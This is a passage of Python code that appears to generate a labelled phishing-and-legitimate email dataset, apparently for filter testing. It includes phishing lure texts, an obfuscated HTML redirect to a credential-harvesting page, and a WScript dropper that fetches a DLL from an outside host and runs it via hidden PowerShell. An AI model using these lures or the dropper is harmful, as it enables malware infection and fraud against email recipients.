        ["<b>Accounts Payable</b><br>payments@northgate-supply.co", "Please review the Q3 remittance advice and "
         "confirm your banking details so the payment can be released.",
         "<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share "
         "this email, link, or access code with others."], ("REVIEW DOCUMENT", DS_LINK), "#ffc820",
        [("About Docusign", "https://www.docusign.com/"), ("Help", "https://support.docusign.com/")],
        "This message was sent to you by Accounts Payable who is using the Docusign Electronic Signature Service.")),
    "Genuine DocuSign envelope (docusign.net passes) from a fraudster's account: the 'remittance advice' asks the "
    "recipient to enter bank and login details inside the signing flow.", auth="pass", scl=1,
    msgid=f"<{hx('dsmid', 32)}@docusign.net>")


GO_T = "https://google-one-storage-alert.azurewebsites.net/photos/keep?u=dmitchell.ohio%40gmail.com"

msg("google-one-storage-fwd", "phishing", "phish", "en", "dave", "2025-03-04 19:26:33 -0500",
    ("Google One", "alerts@cloud-storagefull.info"),
    "Your Google storage is full - your photos will be deleted on March 7",
    via_vps("cloud-storagefull.info", "45.95.169.77", "cloud-storagefull.info"),
    lambda m: only_html(kit(
        m, "https://i.ibb.co/1LgMqk1/google-one.png", "Your storage is full",
        ["dmitchell.ohio@gmail.com has used 15 GB of 15 GB. Your photos and files are no longer backed up and the "
         "oldest items will be removed on <b>March 7, 2025</b>.",
         "As a loyal customer you can get 50 GB extra storage <b>free</b> for 12 months — just confirm your "
         "payment method (a $0.00 authorization)."],
        ("Keep my photos", GO_T), "#1a73e8", "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA", filler=70)),
    "Google One 'storage full' lure sent to a Gmail honeypot and auto-forwarded into Outlook.com (Google ARC and "
    "results kept), link to an azurewebsites.net page taking card details.", auth="none", scl=1,
    gdmarc="dmarc=none header.from=cloud-storagefull.info")

ICS = """BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20251008T150000Z
DTEND:20251008T153000Z
DTSTAMP:20251007T181209Z
ORGANIZER;CN=PayPal Billing Center:mailto:robert.hayes.billing776@gmail.com
UID:{uid}@google.com
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN=dmitchell.ohio@gmail.com;X-NUM-GUESTS=0:mailto:dmitchell.ohio@gmail.com
DESCRIPTION:Your PayPal account has been charged $599.99 USD for the purchase of Bitcoin (BTC).\\nTransaction ID: 7HX29381LK4471203\\n\\nIf you did not authorize this transaction call PayPal Billing Support immediately: +1 (888) 270-4419\\n
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:PayPal Invoice $599.99 - call +1 (888) 270-4419 to cancel
TRANSP:OPAQUE
END:VEVENT
END:VCALENDAR
"""

msg("calendar-invite-callback", "phishing", "phish", "en", "dave", "2025-10-07 14:12:09 -0400",
    ("PayPal Billing Center", "robert.hayes.billing776@gmail.com"),
    "Invitation: PayPal Invoice $599.99 - call +1 (888) 270-4419 to cancel @ Wed Oct 8, 2025 11am - 11:30am (EDT)",
    via_gmail("robert.hayes.billing776@gmail.com"),
    lambda m: mixed(m, mime.Multi("alternative", bnd(m, 1), [
        plain("Your PayPal account has been charged $599.99 USD for the purchase of Bitcoin (BTC).\nTransaction ID: "
              "7HX29381LK4471203\n\nIf you did not authorize this transaction call PayPal Billing Support "
              "immediately: +1 (888) 270-4419\n\nInvitation from Google Calendar\n"),
        mime.text("<span>Your PayPal account has been charged <b>$599.99 USD</b> for the purchase of Bitcoin (BTC).<br>"
                  "Transaction ID: 7HX29381LK4471203<br><br>If you did not authorize this transaction call PayPal "
                  "Billing Support immediately: <b>+1 (888) 270-4419</b></span><br><br><p style=\"color:#70757a\">"
                  "Invitation from Google Calendar</p>\n", "html"),
        mime.Leaf("text/calendar", ICS.format(uid=hx("ics", 26)).encode(), "7bit",
                  '; charset="UTF-8"; method=REQUEST')]),
        mime.Leaf("application/ics", ICS.format(uid=hx("ics", 26)).encode(), "base64", '; name="invite.ics"',
                  'attachment; filename="invite.ics"')),
    "Callback scam delivered as a Google Calendar invitation from a freemail account to a forwarded Gmail honeypot: "
    "fake PayPal Bitcoin charge with a phone number in the title and description, no link.", auth="fwdpass", scl=1,
    gdmarc="dmarc=pass (p=NONE sp=QUARANTINE dis=NONE) header.from=gmail.com")

VM_HTML = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Voicemail</title></head><body>"
           "<p style=\"font-family:Segoe UI\">Loading audio message (00:47)...</p><script>\n"
           "var _e=\"{e}\";var _0x=[\"{a}\",\"{b}\"];\n"
           "setTimeout(function(){{window.location.replace(atob(_0x[0])+atob(_0x[1])+_e)}},350);\n"
           "</script></body></html>\n")
VM_URL = "https://auth-voicemail-portal.onrender.com/m365/play#"

msg("m365-voicemail-html", "phishing", "phish", "en", "kate", "2025-10-28 08:49:51 -0400",
    ("Voice Mail Service", "voicemail@vm-notify-svc.com"),
    "New voicemail from +1 (312) 555-0148 [00:47s]",
    via_vps("vm-notify-svc.com", "185.225.74.77", "vm-notify-svc.com", dkim="vm-notify-svc.com"),
    lambda m: mixed(m, only_html(html_doc(
        '<div style="font-family:Segoe UI,Arial;font-size:14px"><p><b>You have a new voice message</b></p>'
        "<p>From: +1 (312) 555-0148<br>Received: Tue, Oct 28 2025 8:41 AM<br>Length: 00:47</p>"
        "<p>Open the attached audio file to play the message.</p><p style=\"color:#888;font-size:11px\">Microsoft "
        "365 Unified Messaging</p></div>", "en")),
        html_att("VM_Playback_00-47s.htm", VM_HTML.format(
            e="k.hendricks82@hotmail.com", a=base64.b64encode(VM_URL[:30].encode()).decode(),
            b=base64.b64encode(VM_URL[30:].encode()).decode()))),
    "Fake voicemail notification with an HTML attachment whose split base64 strings rebuild an onrender.com login "
    "URL and redirect to it with the victim's address appended.", auth="bestdkim", scl=5)

JS_DROP = ("var s=WScript.CreateObject(\"WScript.Shell\");\nvar u=\"https://harborviewplumbing.com/wp-content/uploads/"
           "2025/11/inv.dat\";\nvar p=s.ExpandEnvironmentStrings(\"%TEMP%\")+\"\\\\inv20931.dll\";\n"
           "s.Run(\"powershell -w hidden -c \\\"iwr '\"+u+\"' -OutFile '\"+p+\"'; rundll32 '\"+p+\"',Start\\\"\",0);\n")
msg("invoice-zip-js", "malware", "phish", "en", "rick", "2025-11-11 09:37:02 -0500",
    ("Harborview Plumbing - Accounts", "accounts@harborviewplumbing.com"),
    "RE: Invoice INV-20931 overdue - please remit",
    via_host("harborviewplumbing.com", "198.54.116.209", "server214-3.web-hosting.com", "accounts"),
    lambda m: mixed(m, plain("Hi,\n\nFollowing up on the invoice below, which is now 30 days overdue. Please find the "
                             "invoice and statement attached (password-free) and let us know when payment is "
                             "scheduled.\n\nThanks,\nDenise Carter\nAccounts Receivable\nHarborview Plumbing & Heating\n"
                             "(614) 555-0190\n"),
                    mime.attachment("application/zip", "INV-20931.zip",
                                    files.zip_archive([("INV-20931_statement.pdf.js", JS_DROP.encode())]))),
    "Overdue-invoice lure from a compromised plumbing-company mailbox (passes) with a ZIP containing a .pdf.js "
    "WScript dropper that downloads and runs a DLL.", auth="pass", scl=5)


# ---- legitimate ---------------------------------------------------------------------------------


def bulk(slug, lang, rcpt, date, frm, subj, route, logo, title, paras, btn, color, links, foot, desc, pre="",
         pixel=None, **kw):
    msg(slug, "bulk", "bulk", lang, rcpt, date, frm, subj, route,
        lambda m: alt(m, brand(m, logo, title, paras, btn, color, links, foot, pre, pixel)), desc,
        auth=kw.pop("auth", "pass"), **kw)


bulk("bradesco-compra-aprovada", "pt", "marcos", "2024-03-02 20:41:18 -0300",
     ("Bradesco Cartões", "bradescocartoes@comunicacao.bradesco.com.br"), "Compra aprovada no seu cartão final 7712",
     via_esp("200.155.86.31", "smtp2.comunicacao.bradesco.com.br", "bounce@comunicacao.bradesco.com.br",
             [("comunicacao.bradesco.com.br", "brd2023")]),
     "https://www.bradesco.com.br/assets/email/logo-bradesco-cartoes.png", "Compra aprovada",
     ["Olá, MARCOS.", "Uma compra foi aprovada no seu cartão Bradesco Visa final <b>7712</b>:",
      "<b>R$ 186,40</b> em SUPERMERCADO ZONA SUL - RIO DE JANEIRO<br>02/03/2024 às 20:39",
      "Se você reconhece esta compra, não é necessário fazer nada. Caso não reconheça, ligue para a Central de "
      "Atendimento no número que está no verso do seu cartão ou use o app Bradesco Cartões."], None, "#cc092f",
     [("Política de Privacidade", "https://banco.bradesco/html/classic/politica-de-privacidade.shtm")],
     "O Bradesco nunca envia links solicitando senhas, tokens ou dados do cartão.<br>Banco Bradesco S.A. - "
     "Cidade de Deus, Osasco/SP", "Compra aprovada no cartão final 7712",
     "Genuine Bradesco card purchase alert from a bradesco.com.br subdomain (SPF/DKIM/DMARC pass), no links "
     "except the privacy policy, tells the client to call the number on the card.", scl=1)
bulk("itau-fatura-disponivel", "pt", "julia", "2024-04-05 06:12:55 -0300",
     ("Itaú", "itau@comunicacao.itau.com.br"), "Sua fatura do cartão Itaú Click já está disponível",
     via_esp("13.111.88.41", "mta.comunicacao.itau.com.br",
             f"bounce-1091_HTML-{int(hx('itb', 6), 16)}-{int(hx('itb2', 5), 16)}-7214588-3@bounce.comunicacao.itau.com.br",
             [("comunicacao.itau.com.br", "200608")]),
     "https://image.comunicacao.itau.com.br/lib/fe8f13727463077d75/m/1/logo-itau.png", "Sua fatura chegou",
     ["Olá, Julia! A fatura do seu cartão Itaú Click Visa final 3304 fechou.",
      "Valor: <b>R$ 1.284,77</b><br>Vencimento: <b>12/04/2024</b>",
      "Pague pelo app Itaú com Pix ou código de barras, ou cadastre o débito automático."],
     ("Ver fatura no app", track("https://click.comunicacao.itau.com.br/?qs=", "https://www.itau.com.br/cartoes/fatura", "itf")),
     "#ec7000", [("Descadastrar", track("https://click.comunicacao.itau.com.br/?qs=", "https://www.itau.com.br/descadastro", "itu"))],
     "Itaú Unibanco S.A. - Este é um e-mail automático. O Itaú não pede senhas ou tokens por e-mail.",
     pixel=f"https://click.comunicacao.itau.com.br/open.aspx?ffcb10-{hx('itpx', 16)}", scl=1, bcl=3,
     desc="Genuine Itaú credit-card statement notice via Salesforce Marketing Cloud on comunicacao.itau.com.br "
          "(passes), click-tracking redirects and open pixel.",
     hdrs=["List-Unsubscribe: <https://click.comunicacao.itau.com.br/unsub_center.aspx?qs=" + alnum("itls", 40) + ">"])



def esp(ip, helo, dom, sel="s1", env=None, extra=()):
    return via_esp(ip, helo, env or f"bounce-{alnum(dom + ip, 10).lower()}@{dom}", [(dom, sel), *extra])


def tk(base, seed):
    return f"{base}{alnum(seed, 26)}/{alnum(seed + 'b', 12)}"


bulk("nubank-pix-recebido", "pt", "sandra", "2024-05-10 14:03:27 -0300", ("Nubank", "naoresponda@nubank.com.br"),
     "Você recebeu uma transferência de R$ 320,00", esp("54.240.48.91", "a48-91.smtp-out.amazonses.com",
                                                       "nubank.com.br", "nu2023", "bounces@mail.nubank.com.br"),
     "https://nubank.com.br/images/nu-icon.png", "Transferência recebida",
     ["Olá, Sandra.", "Você recebeu uma transferência pelo Pix de <b>ANA CAROLINA PEREIRA</b> no valor de "
      "<b>R$ 320,00</b> em 10 MAI às 14:02.", "O valor já está disponível na sua conta. Veja os detalhes no app."],
     None, "#820ad1", [("Central de ajuda", "https://nubank.com.br/contato")],
     "Nu Pagamentos S.A. - Instituição de Pagamento. O Nubank nunca liga ou manda e-mail pedindo senha.",
     desc="Genuine Nubank Pix-received notice from nubank.com.br via Amazon SES with custom MAIL FROM (passes).")
bulk("inter-informe-rendimentos", "pt", "marcos", "2025-02-20 09:30:14 -0300", ("Inter", "naoresponda@inter.co"),
     "Seu Informe de Rendimentos 2024 já está disponível", esp("167.89.99.12", "o12.ptr7731.inter.co", "inter.co", "s1",
                                                              f"bounces+4481190-{hx('inb', 4)}-marcos.almeida.rj=outlook.com@em.inter.co"),
     "https://marketing.inter.co/email/logo-inter-laranja.png", "Informe de Rendimentos 2024",
     ["Olá, Marcos! Seu Informe de Rendimentos do ano-calendário 2024 já pode ser consultado.",
      "Para acessar, abra o app Inter &gt; Menu &gt; Informe de Rendimentos. Você também pode baixar o PDF pelo "
      "Internet Banking."], ("Saiba mais", tk("https://url4481.inter.co/ls/click?upn=", "inter1")), "#ff7a00",
     [("Descadastre-se", tk("https://url4481.inter.co/ls/click?upn=", "inter2"))], "Banco Inter S.A. - Belo Horizonte/MG",
     desc="Genuine Banco Inter income-statement notice from inter.co via SendGrid (passes), SendGrid click-tracking "
          "links, tells the user to use the app.", bcl=2)
bulk("mercadopago-pix-recebido", "pt", "julia", "2024-08-16 18:22:40 -0300", ("Mercado Pago", "info@mercadopago.com"),
     "Você recebeu um Pix de R$ 75,00", esp("216.33.127.20", "mail20.mercadopago.com", "mercadopago.com", "mp2024"),
     "https://http2.mlstatic.com/frontend-assets/mp-web-navigation/ui-navigation/5.21.22/mercadopago/logo__large.png",
     "Você recebeu um Pix", ["<b>R$ 75,00</b> de Fernanda Souza Lima", "16 de agosto às 18:21 - ID E18236120202408162121s",
                             "O dinheiro já está disponível na sua conta Mercado Pago."],
     ("Ver comprovante", tk("https://www.mercadopago.com.br/activities?utm_source=email&trk=", "mp1")), "#009ee3",
     [("Ajuda", "https://www.mercadopago.com.br/ajuda")], "Mercado Pago Instituição de Pagamento Ltda.",
     desc="Genuine Mercado Pago Pix-received notice from mercadopago.com (passes), links to mercadopago.com.br.")
bulk("correios-objeto-aguardando", "pt", "sandra", "2024-10-22 10:48:05 -0300",
     ("Correios", "naoresponda@correios.com.br"), "Objeto aguardando retirada: QB118274553BR",
     esp("200.252.60.41", "smtp-out2.correios.com.br", "correios.com.br", "correios"),
     "https://www.correios.com.br/++resource++correios.portal.imagens/logo-correios.png", "Seu objeto chegou!",
     ["O objeto <b>QB118274553BR</b> está aguardando retirada na agência AC VILA MARIANA - SAO PAULO/SP até 29/10/2024.",
      "Apresente um documento oficial com foto na agência."],
     ("Acompanhar objeto", "https://rastreamento.correios.com.br/app/index.php?objeto=QB118274553BR"), "#00416b",
     [("Fale com os Correios", "https://www.correios.com.br/falecomoscorreios")],
     "Os Correios não solicitam pagamentos por e-mail, SMS ou WhatsApp sem o código de rastreamento.",
     desc="Genuine Correios pick-up notice from correios.com.br (passes), link to rastreamento.correios.com.br.")
bulk("correios-taxa-importacao-legit", "pt", "marcos", "2024-12-02 13:17:50 -0300",
     ("Correios", "naoresponda@correios.com.br"), "Minhas Importações: objeto NL903348126BR aguardando pagamento",
     esp("200.252.60.42", "smtp-out3.correios.com.br", "correios.com.br", "correios"),
     "https://www.correios.com.br/++resource++correios.portal.imagens/logo-correios.png", "Objeto aguardando pagamento",
     ["O objeto internacional <b>NL903348126BR</b> foi tributado pela Receita Federal (Programa Remessa Conforme).",
      "Valor total: <b>R$ 42,36</b> (imposto de importação + ICMS + despacho postal). O pagamento deve ser feito "
      "exclusivamente no portal Minhas Importações, usando sua conta dos Correios ou gov.br."],
     ("Acessar Minhas Importações", "https://apps.correios.com.br/portalimportador/"), "#00416b",
     [("Rastreamento", "https://rastreamento.correios.com.br/app/index.php")],
     "Confira sempre se o endereço é correios.com.br. Os Correios não enviam Pix copia e cola por e-mail.",
     desc="Genuine Correios import-tax notice (the real counterpart of the 'taxa de importação' scams) from "
          "correios.com.br, link only to apps.correios.com.br.")
bulk("mercadolivre-compra", "pt", "julia", "2024-07-03 22:05:31 -0300", ("Mercado Livre", "info@mercadolivre.com"),
     "Você comprou Fone de Ouvido Bluetooth JBL Tune 520BT", esp("192.174.90.113", "mta-166-113.sparkpostmail.com",
                                                                "mercadolivre.com", "ml2023", "msprvs1=1884xyz=bounces-1190@bounces.mercadolivre.com"),
     "https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.73/mercadolibre/logo__large_plus.png",
     "Obrigado pela sua compra!", ["<b>Fone de Ouvido Bluetooth JBL Tune 520BT Preto</b><br>1 unidade - R$ 249,00",
                                    "Pagamento aprovado: Pix. Chega entre sexta-feira e segunda-feira.",
                                    "Vendedor: JBL Store Oficial"],
     ("Ver compra", tk("https://click1.mercadolivre.com.br/ls/click?upn=", "ml1")), "#3483fa",
     [("Ajuda", tk("https://click1.mercadolivre.com.br/ls/click?upn=", "ml2")),
      ("Preferências de e-mail", tk("https://click1.mercadolivre.com.br/ls/click?upn=", "ml3"))],
     "Mercado Livre - Av. das Nações Unidas, 3003 - Osasco/SP", pre="Seu pagamento foi aprovado",
     desc="Genuine Mercado Livre purchase confirmation (SPF/DKIM/DMARC pass, SparkPost) with click-tracking links.")
bulk("mercadolivre-avaliacao", "pt", "sandra", "2024-07-19 11:40:02 -0300", ("Mercado Livre", "info@mercadolivre.com"),
     "Conte como foi sua compra: Cafeteira Nespresso Essenza Mini", esp("192.174.90.114", "mta-166-114.sparkpostmail.com",
                                                                       "mercadolivre.com", "ml2023", "msprvs1=1884xyz=bounces-1190@bounces.mercadolivre.com"),
     "https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.73/mercadolibre/logo__large_plus.png",
     "O que você achou do produto?", ["Sua opinião ajuda outras pessoas a comprar melhor. Avalie a <b>Cafeteira "
                                       "Nespresso Essenza Mini</b> em menos de 1 minuto."],
     ("Avaliar produto", tk("https://click1.mercadolivre.com.br/ls/click?upn=", "mla1")), "#3483fa",
     [("Não quero receber", tk("https://click1.mercadolivre.com.br/ls/click?upn=", "mla2"))],
     "Mercado Livre - Av. das Nações Unidas, 3003 - Osasco/SP", bcl=4,
     desc="Genuine Mercado Livre review request (the real 'pesquisa' the prize scams imitate), passes, tracking links.")
bulk("magalu-ofertas", "pt", "julia", "2025-01-24 08:00:44 -0300", ("Magalu", "magalu@news.magazineluiza.com.br"),
     "🔥 Liquida Magalu: até 70% OFF + cupom de R$ 50", esp("13.111.4.202", "mta4.news.magazineluiza.com.br",
                                                          "news.magazineluiza.com.br", "200608"),
     "https://a-static.mlcdn.com.br/email/magalu/logo-magalu.png", "Liquida Magalu começou!",
     ["Smart TV 50\" 4K por R$ 1.899 &bull; Geladeira Frost Free R$ 2.599 &bull; Air Fryer 4L R$ 299",
      "Use o cupom <b>LIQUIDA50</b> em compras acima de R$ 500. Válido até domingo."],
     ("Ver ofertas", track("https://click.news.magazineluiza.com.br/?qs=", "https://www.magazineluiza.com.br/selecao/liquida/", "mg1")),
     "#0086ff", [("Descadastrar", track("https://click.news.magazineluiza.com.br/?qs=", "https://www.magazineluiza.com.br/descadastro", "mg2"))],
     "Magazine Luiza S.A. - Franca/SP", scl=5, bcl=6,
     desc="Genuine Magalu marketing newsletter via Salesforce Marketing Cloud (passes), filed in Junk by Outlook, full "
          "of click-tracking redirects.",
     hdrs=["List-Unsubscribe: <https://click.news.magazineluiza.com.br/unsub_center.aspx?qs=" + alnum("mgls", 40) + ">"])
bulk("serasa-feirao", "pt", "marcos", "2025-03-10 12:00:09 -0300", ("Serasa", "serasa@news.serasa.com.br"),
     "Feirão Limpa Nome: negocie suas dívidas com até 99% de desconto", esp("13.111.9.77", "mta9.news.serasa.com.br",
                                                                          "news.serasa.com.br", "200608"),
     "https://www.serasa.com.br/limpa-nome-online/static/img/serasa-logo.png", "O Feirão Limpa Nome chegou",
     ["São mais de 1.000 empresas parceiras com ofertas de até 99% de desconto. Consulte seu CPF grátis e "
      "negocie direto no site ou app da Serasa.", "Atenção: a Serasa nunca pede pagamento fora do site ou app oficial."],
     ("Consultar meu CPF", track("https://click.news.serasa.com.br/?qs=", "https://www.serasa.com.br/limpa-nome-online/", "ser1")),
     "#e80070", [("Descadastrar", track("https://click.news.serasa.com.br/?qs=", "https://www.serasa.com.br/descadastro", "ser2"))],
     "Serasa S.A. - Av. das Nações Unidas, 14.401 - São Paulo/SP", bcl=5,
     desc="Genuine Serasa 'Feirão Limpa Nome' marketing email (passes), tracking redirects to serasa.com.br.")
bulk("netflix-novo-dispositivo", "pt", "sandra", "2025-04-02 21:33:16 -0300", ("Netflix", "info@account.netflix.com"),
     "Novo dispositivo usando sua conta", esp("69.53.224.125", "omta-69-53-224-125.netflix.com", "account.netflix.com",
                                             "netflix2024", "bounces@bounce.netflix.com", [("netflix.com", "s1")]),
     "https://assets.nflxext.com/us/email/gem/nflx.png", "Um novo dispositivo está usando sua conta",
     ["Olá, Sandra.", "Um novo dispositivo entrou na sua conta Netflix:<br>Smart TV Samsung - São Paulo, Brasil - 02/04/2025",
      "Se foi você ou alguém da sua residência, não precisa fazer nada. Caso contrário, altere sua senha."],
     ("Alterar senha", "https://www.netflix.com/password?g=" + guid("nfpw") + "&lkid=URL_PASSWORD"), "#e50914",
     [("Central de Ajuda", "https://help.netflix.com/")], "Netflix Entretenimento Brasil Ltda. - São Paulo/SP",
     desc="Genuine Netflix new-device security notice from account.netflix.com (passes), links to netflix.com.")


msg("churrasco-fotos", "clean", "legit", "pt", "julia", "2024-06-09 20:14:37 -0300",
    ("Paulo Henrique Rocha", "paulo.henrique.rocha@gmail.com"), "fotos do churrasco de domingo",
    via_gmail("paulo.henrique.rocha@gmail.com"),
    lambda m: mixed(m, alt(m, '<div dir="ltr">Oi Ju!<div><br></div><div>Seguem as fotos do churrasco. A da piscina ficou '
                           "ótima kkk. Manda pra sua mãe também, ela pediu.</div><div><br></div><div>Sábado que vem "
                           "tem aniversário do Rafa, vocês vão?</div><div><br></div><div>Bjs,</div><div>Paulo</div></div>\n"),
                    mime.attachment("image/jpeg", "IMG_20240609_153412.jpg", files.photo_jpeg(3, (320, 240))),
                    mime.attachment("image/jpeg", "IMG_20240609_161055.jpg", files.photo_jpeg(8, (320, 240)))),
    "Personal Gmail message from a friend with two holiday photos attached; passes authentication, no links.",
    auth="pass", scl=-1)
msg("boleto-condominio", "clean", "legit", "pt", "marcos", "2025-03-05 09:12:48 -0300",
    ("Beatriz Almeida", "beatriz.almeida.rj@hotmail.com"), "boleto do condomínio de março",
    via_hotmail("beatriz.almeida.rj@hotmail.com"),
    lambda m: mixed(m, alt(m, html_doc(
        '<div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt">Marcos, segue o boleto do condomínio do '
        "apartamento da mamãe que chegou aqui na portaria. Vence dia 10. Você consegue pagar esse mês? Eu pago o IPTU."
        "<br><br>Beijo,<br>Bia<br><br>Enviado do <a href=\"https://aka.ms/o0ukef\">Outlook para Android</a></div>")),
        pdf_att("boleto_condominio_marco_2025.pdf",
                ["CONDOMINIO EDIFICIO SOLAR DAS PALMEIRAS - Boleto de cobranca", "",
                 "Unidade: 802 - Bloco A    Competencia: 03/2025", "Vencimento: 10/03/2025    Valor: R$ 1.132,50",
                 "Beneficiario: Administradora Predial Guanabara Ltda", "",
                 "Linha digitavel: 34191.79001 01043.510047 91020.150008 1 10150000113250"], None, "Boleto")),
    "Personal message from the recipient's sister (Hotmail, passes) forwarding the building's condo-fee boleto as a "
    "PDF; no links.", attach=True, auth="pass", scl=-1)
bulk("ms-security-alert", "en", "tom", "2024-09-24 07:58:02 +0100",
     ("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
     "Microsoft account unusual sign-in activity",
     via_m365("40.107.236.41", "accountprotection.microsoft.com", "account-security-noreply@accountprotection.microsoft.com",
              [("accountprotection.microsoft.com", "selector1")], "NAM02-SN1"),
     "https://img-prod-cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3b", "Unusual sign-in activity",
     ["We detected something unusual about a recent sign-in to the Microsoft account to******@outlook.com.",
      "<b>Sign-in details</b><br>Country/region: Spain<br>IP address: 83.45.197.212<br>Date: 24/09/2024 06:41 (GMT)"
      "<br>Platform: iOS<br>Browser: Safari", "If this was you, you can ignore this message. If not, we'll help you "
      "secure your account."], ("Review recent activity", "https://account.live.com/Activity?mkt=en-GB&uaid="
                                + hx("msua", 32)), "#0067b8",
     [("Privacy Statement", "https://go.microsoft.com/fwlink/?LinkId=521839")],
     "To opt out or change where you receive security notifications, visit your security settings.<br>Microsoft "
     "Corporation, One Microsoft Way, Redmond, WA 98052", msgid=f"<{guid('msmid')}@az.westus.microsoft.com>",
     desc="Genuine Microsoft account unusual-sign-in alert from accountprotection.microsoft.com (passes), links to "
          "account.live.com - the real version of the mailto harvester.")
bulk("google-security-alert-fwd", "en", "dave", "2025-02-11 22:40:19 +0000",
     ("Google", "no-reply@accounts.google.com"), "Security alert",
     via_esp("209.85.220.73", "mail-sor-f73.google.com", f"3{alnum('gab', 20)}@gaia.bounces.google.com",
             [("accounts.google.com", "20230601")], "gmail"),
     "https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png",
     "A new sign-in on Windows", ["dmitchell.ohio@gmail.com", "We noticed a new sign-in to your Google Account on a "
                                  "Windows device. If this was you, you don't need to do anything. If not, we'll help "
                                  "you secure your account."],
     ("Check activity", "https://accounts.google.com/AccountChooser?Email=dmitchell.ohio@gmail.com&continue="
      "https://myaccount.google.com/alert/nt/1739313619000?rfn%3D325%26rfnc%3D1%26eid%3D" + alnum("geid", 20)),
     "#1a73e8", [("Google Account", "https://myaccount.google.com/notifications")],
     "You received this email to let you know about important changes to your Google Account and services.<br>"
     "&copy; 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA", auth="fwdpass",
     msgid=f"<{b64('gamid', 22, True)}-0@google.com>",
     gdmarc="dmarc=pass (p=REJECT sp=REJECT dis=NONE) header.from=accounts.google.com",
     desc="Genuine Google new-sign-in security alert to a Gmail account, auto-forwarded into Outlook.com with the "
          "original accounts.google.com DKIM intact (passes).")
bulk("amazon-shipped", "en", "kate", "2024-10-30 16:22:47 -0400", ("Amazon.com", "shipment-tracking@amazon.com"),
     'Shipped: "Anker USB C Charger 65W..."', esp("54.240.8.33", "a8-33.smtp-out.amazonses.com", "amazon.com",
                                                 "yg4mwqurec7fkhzutopddd3ytuaqrvuz",
                                                 f"2024103020224{hx('amz', 8)}@bounces.amazon.com",
                                                 [("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")]),
     "https://m.media-amazon.com/images/G/01/outbound/OutboundTemplates/Amazon_logo_US._BG255,255,255_.png",
     "Your package is on the way", ["Hi Katherine,", "<b>Anker USB C Charger 65W, 735 Charger (Nano II)</b><br>"
                                    "Arriving Friday, November 1", "Order # 112-4471938-2208257"],
     ("Track package", "https://www.amazon.com/gp/css/shiptrack/view.html?ie=UTF8&orderID=112-4471938-2208257&ref_=pe_"
      + alnum("amzr", 10)), "#ffd814", [("Your Orders", "https://www.amazon.com/gp/css/order-history?ref_=pe_386300")],
     "This email was sent from a notification-only address that cannot accept incoming email.",
     desc="Genuine Amazon shipment notification from amazon.com via SES (passes), links to amazon.com.")
bulk("paypal-receipt", "en", "rick", "2025-05-22 19:47:33 -0700", ("PayPal", "service@paypal.com"),
     "Receipt for your payment to Etsy, Inc.", via_esp("173.0.84.226", "mx0.slc.paypal.com", "service@paypal.com",
                                                      [("paypal.com", "pp-dkim1")]),
     "https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.png", "You sent $38.45 USD to Etsy, Inc.",
     ["Transaction ID: 9KE47718UX2230415<br>Transaction date: May 22, 2025", "Merchant: Etsy, Inc.<br>Instructions: "
      "Order #3318874021 - ceramic mug set"], ("View transaction details",
                                               "https://www.paypal.com/myaccount/transactions/details/9KE47718UX2230415"),
     "#0070e0", [("Help & Contact", "https://www.paypal.com/us/smarthelp/home")],
     "PayPal, Inc. 2211 North First Street, San Jose, CA 95131", msgid="<" + hx("pprmid", 12) + ".1747968453@paypal.com>",
     desc="Genuine PayPal payment receipt from paypal.com (passes), links to paypal.com.")
bulk("spotify-receipt", "en", "tom", "2025-06-01 05:14:20 +0100", ("Spotify", "no-reply@spotify.com"),
     "Your Spotify Premium receipt", esp("35.190.247.12", "mta-12.mail.spotify.com", "spotify.com", "sp1",
                                         "bounces@mail.spotify.com"),
     "https://i.scdn.co/image/ab671c3d0000f430b5a1d5d6c0d4c24d1d9a7a3c", "Thanks for your payment",
     ["Premium Individual - 1 June 2025 to 30 June 2025", "Total: <b>£11.99</b> (incl. VAT)<br>Paid with Visa ending "
      "in 9021"], ("Manage your account", "https://www.spotify.com/uk/account/overview/?utm_source=spotify&utm_medium="
                                          "email&utm_campaign=receipt"), "#1db954",
     [("Terms", "https://www.spotify.com/uk/legal/end-user-agreement/"), ("Privacy", "https://www.spotify.com/uk/legal/privacy-policy/")],
     "Spotify AB, Regeringsgatan 19, 111 53 Stockholm, Sweden",
     desc="Genuine Spotify Premium receipt from spotify.com (passes), links to spotify.com.")
bulk("binance-login-alert", "en", "rick", "2025-02-27 03:18:44 +0000", ("Binance", "do_not_reply@mailer.binance.com"),
     "[Binance] Login Attempted from New IP address 98.47.212.9 - 2025-02-27 03:18:39(UTC)",
     esp("54.240.60.14", "a60-14.smtp-out.amazonses.com", "mailer.binance.com", "bnc",
         f"010001954{hx('bnses', 6)}-{guid('bnses')}-000000@mailer.binance.com"),
     "https://public.bnbstatic.com/image/cms/blog/20200707/631c823b-886e-4e46-b21d-a2a2d2f1e0e3.png",
     "Login Attempted from New IP", ["The system has detected that your account is logged in from an unused IP "
                                     "address.", "Account: ric***@outlook.com<br>Device: Chrome V133 (Windows)<br>"
                                     "IP: 98.47.212.9<br>Time: 2025-02-27 03:18:39 (UTC)",
                                     "If this activity is not your own operation, please disable your account and "
                                     "contact us immediately."],
     ("Disable your account", "https://www.binance.com/en/my/security/account-disable?token=" + alnum("bnd", 32)),
     "#f0b90b", [("Support", "https://www.binance.com/en/support")],
     "Stay alert to phishing attacks and verify URLs with Binance Verify. This is an automated message.",
     desc="Genuine Binance new-IP login alert from mailer.binance.com via SES (passes), links to binance.com.")
